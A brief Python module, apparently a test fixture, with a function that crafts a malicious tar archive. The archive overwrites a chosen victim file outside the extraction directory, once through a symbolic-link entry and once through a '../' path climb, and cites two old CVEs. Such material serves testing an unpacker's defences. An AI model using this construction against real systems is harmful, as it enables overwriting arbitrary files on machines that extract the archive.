"""A tarball that attacks: it writes through a symbolic link to a file outside of the image."""

from __future__ import annotations

import io
import tarfile
from pathlib import Path


def write_escape(tarball: Path, victim: Path) -> None:
    """Write a tarball that overwrites ``victim`` if unpacked carelessly.

    Its two ways out are old: by a symbolic link (CVE-2021-32803) and by dots (CVE-2007-4131).
    """
    content = b"the attacker was here\n"
    with tarfile.open(tarball, "w", format=tarfile.USTAR_FORMAT) as tar:
        link = tarfile.TarInfo("var/lib/app")
        link.type, link.linkname = tarfile.SYMTYPE, str(victim.parent)
        tar.addfile(link)
        through = tarfile.TarInfo(f"var/lib/app/{victim.name}")
        through.size = len(content)
        tar.addfile(through, io.BytesIO(content))
        climb = tarfile.TarInfo(f"../../../../../..{victim}")
        climb.size = len(content)
        tar.addfile(climb, io.BytesIO(content))
